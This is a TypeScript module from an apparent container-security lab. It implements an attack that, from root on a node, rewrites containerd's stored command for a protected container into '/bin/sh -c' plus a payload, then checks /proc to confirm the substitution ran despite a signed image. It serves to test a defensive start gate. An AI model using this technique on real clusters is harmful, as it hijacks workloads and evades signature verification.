/**
 * Attack (T1562.001 Impair Defenses: Disable or Modify Tools, T1609
 * Container Administration Command, T1059.004 Unix Shell): root on the
 * node, who holds containerd's socket, rewrites the command in containerd's
 * record of a protected workload container between CreateContainer and
 * StartContainer (Containers.Update: the spec's process.args become a shell
 * running the attack's payload). containerd writes the bundle from that
 * record, so the signed image's layers and config, the bundle and the record
 * all check out, and the container's first process is the attacker's
 * command, from the verified layers.
 *
 * The call goes to the lab's containerd socket from the harness, which is
 * where root on the node reaches it too.
 *
 * What must catch it: the start gate, which holds the recorded command to
 * the request CRI keeps in memory and the signed image config
 * (lab/gates/cri-request.ts).
 */
import { LabError } from '../../errors.ts';
import type { Technique } from '../technique.ts';
import { requirePayload, type AttackErrorCode } from './common.ts';
import { startWithRecordEdited } from './containerd-record-update.ts';
import { containerInitPid } from './start.ts';

export const containerdRecordCommand: Technique = {
  name: 'containerd-record-command',
  async run({ node, attack, workload, pods }) {
    const payload = requirePayload(attack);
    const attackerArgs = ['/bin/sh', '-c', payload];
    const { start, evidence } = await startWithRecordEdited({ node, workload, pods }, (spec) => {
      const before = spec.process?.args;
      spec.process = { ...spec.process, args: attackerArgs };
      return { before, after: attackerArgs };
    });
    if (!start.started) {
      return { effect: false, reason: `the container did not start (${start.stage}) after the command in containerd's record of it was replaced: ${start.reason}`, evidence: { ...evidence, refusal: start.reason } };
    }
    // The command line of the container's first process, as the kernel reports it (read on the node).
    const id = start.pod.containers[0]!.id;
    const { pid, state } = await containerInitPid(node, id);
    if (!pid) throw new LabError<AttackErrorCode>('ATTACK_FAILED', `${workload.spec.namespace}/${workload.metadata.name} started but its container is ${state}: its command line cannot be read`);
    const cmdline = (await node.exec.run(['cat', `/proc/${pid}/cmdline`])).stdout.toString().split('\0').filter(Boolean);
    evidence.initCommandLine = cmdline;
    return JSON.stringify(cmdline) === JSON.stringify(attackerArgs)
      ? { effect: true, reason: `${workload.spec.namespace}/${workload.metadata.name} started with the attacker's command ${JSON.stringify(attackerArgs)} from the signed image's layers`, evidence }
      : { effect: false, reason: `the container started with ${JSON.stringify(cmdline)}, not the attacker's command`, evidence };
  },
};
